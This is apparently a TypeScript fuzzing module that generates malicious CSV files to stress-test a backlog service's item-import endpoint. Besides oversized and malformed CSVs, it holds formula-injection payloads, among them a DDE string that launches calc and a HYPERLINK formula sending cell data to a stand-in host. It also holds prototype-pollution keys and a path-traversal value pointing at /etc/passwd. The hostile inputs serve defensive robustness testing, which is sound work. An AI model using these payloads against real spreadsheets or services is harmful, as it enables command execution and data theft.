import { backlogOperations } from '@dsm/contracts'
import type { Draw } from './draw.ts'
import { bearer, json, type Maker } from './hostile-request.ts'

const formulae = ['=HYPERLINK("http://example.test?"&A1)', '+1+cmd|"/c calc"!A1', '-2+3', '@SUM(A1)', '\t=1+1', '=1+1']
const cellOf = (text: string) => `"${text.replaceAll('"', '""')}"`
const rowsOf = (head: string, row: string, count: number) => `${head}\n${`${row}\n`.repeat(count)}`
/** Mostly small, now and then as large as it may be. */
const sizeOf = (draw: Draw, small: number, large: number) => (draw.chance(0.06) ? large : draw.integer(1, small))

const bombs: readonly ((draw: Draw) => string)[] = [
  (draw) => `title${','.repeat(sizeOf(draw, 20_000, 1_000_000))}\nx\n`,
  (draw) => `title,${Array.from({ length: sizeOf(draw, 2000, 100_000) }, () => 'labels').join()}\nx,${'y,'.repeat(2000)}\n`,
  (draw) => `title,points\n"${'a'.repeat(sizeOf(draw, 100_000, 8_000_000))}",3\n`,
  (draw) => `title,points\n${'"a\n'.repeat(sizeOf(draw, 5000, 200_000))}`,
  (draw) => `"title${'""'.repeat(sizeOf(draw, 20_000, 2_000_000))}`,
  (draw) => `${'"'.repeat(sizeOf(draw, 20_000, 4_000_000))}\n`,
  (draw) => `${'title'.repeat(sizeOf(draw, 20_000, 1_500_000))}\nx\n`,
  (draw) => rowsOf('title', 'x', sizeOf(draw, 3000, 25_000)),
  (draw) => rowsOf('title,labels', `x,"${Array.from({ length: sizeOf(draw, 300, 60_000) }, (_, at) => `l${at}`).join()}"`, 1),
  (draw) =>
    rowsOf('title,labels', `x,"${Array.from({ length: sizeOf(draw, 300, 60_000) }, (_, at) => `${'l'.repeat(61)}${at}`).join()}"`, 1),
  (draw) =>
    rowsOf('title,key,depends on', `x,k,"${Array.from({ length: sizeOf(draw, 500, 200_000) }, (_, at) => `K-${at}`).join(' ')}"`, 1),
  (draw) =>
    `title,key,depends on\n${Array.from({ length: sizeOf(draw, 300, 5000) }, (_, at) => `x,k${at},k${at + 1} k${at + 2} k${Math.max(0, at - 1)}`).join('\n')}\n`,
  (draw) => `title,points,value\nx,${draw.pick(['1e400', '-0', '9'.repeat(400), 'NaN', '0x10', '٣', '1,000', '=1+1'])},1e308\n`,
  (draw) =>
    `title,due date\nx,${draw.pick(['9999-12-31', '+275760-09-13', '0000-00-00', '2026-02-30', '99/Dec/99', '1/1/1', `${'9'.repeat(5000)}-1-1`])}\n`,
  (draw) => `title,description\n${cellOf(draw.pick(formulae))},${cellOf(draw.pick(formulae))}\n`,
  (draw) => `${cellOf(draw.pick(formulae))},title\nx,y\n`,
  () => `__proto__,constructor,title,toString\n__proto__,constructor,x,y\n`,
  () => `title,key\nx,__proto__\ny,constructor\nz,../../etc/passwd\n`,
  (draw) =>
    `title\n${draw.pick(['\u202eevil\u202c', '\u200b', '\ufeff', '\ufdfa'.repeat(500), '\u0000', '\ud800'.toWellFormed(), `${'e\u0301'.repeat(400)}`, '\u2028\u2029'])}\n`,
  (draw) => `sep=${draw.pick(['"', '\\', ' ', '\u0000', 'x', '\ud83d'.toWellFormed()])}\ntitle\nx\n`,
  (draw) => draw.pick(['', '\n', '\ufeff', ',,,,', '"', '""', 'x', '\r\r\r', '\u0000', 'sep=;', 'title', 'title\n"', '\n'.repeat(100_000)]),
  (draw) =>
    Array.from({ length: draw.integer(1, 3000) }, () =>
      draw.pick(['"', ',', '\n', 'title', ';', '\t', '|', '\\', '\u0000', 'x', '""', '\r', '=']),
    ).join(''),
]

/** Files for the import of items. What might be imported is only tried, or refused whole for the bad row at its end. */
export const csvBombs: Maker = (draw, { tokens, projectId }) => {
  const csv = draw.pick(bombs)(draw)
  const mapping = draw.chance(0.1) ? { title: draw.pick(['__proto__', '=1+1', 'x'.repeat(200), '../title', '\u0000']) } : {}
  // Behind text that has quotes of its own, one more might close what was open.
  const request =
    csv.includes('"') || draw.chance(0.5)
      ? { csv, dryRun: true, mapping }
      : { csv: `${csv.trimEnd()}\n"never closed`, strict: true, mapping }
  const operation = backlogOperations.importItems
  return {
    service: 'backlog',
    operation: operation.id,
    method: 'POST',
    target: operation.path.replace(':projectId', projectId),
    headers: [bearer(tokens.admin), json],
    body: Buffer.from(JSON.stringify(request)),
  }
}
